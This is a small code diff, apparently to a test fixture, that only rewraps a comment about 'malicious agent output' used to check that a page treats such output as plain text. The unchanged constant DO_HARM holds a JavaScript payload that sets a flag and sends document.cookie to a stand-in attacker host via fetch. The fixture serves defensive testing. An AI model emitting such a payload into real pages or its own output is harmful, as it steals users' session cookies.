@@ -1,5 +1,6 @@
 /*
- * Malicious agent output. If a page treated it as more than text, it would set `pwned`, send a request to another host, leave the page, or pretend to be something else.
+ * Malicious agent output. If a page treated it as more than text, it would set `pwned`, send a request to another host,
+ * leave the page, or pretend to be something else.
  */
 
 const DO_HARM = "window.pwned=1;fetch('https://evil.example/'+document.cookie)";
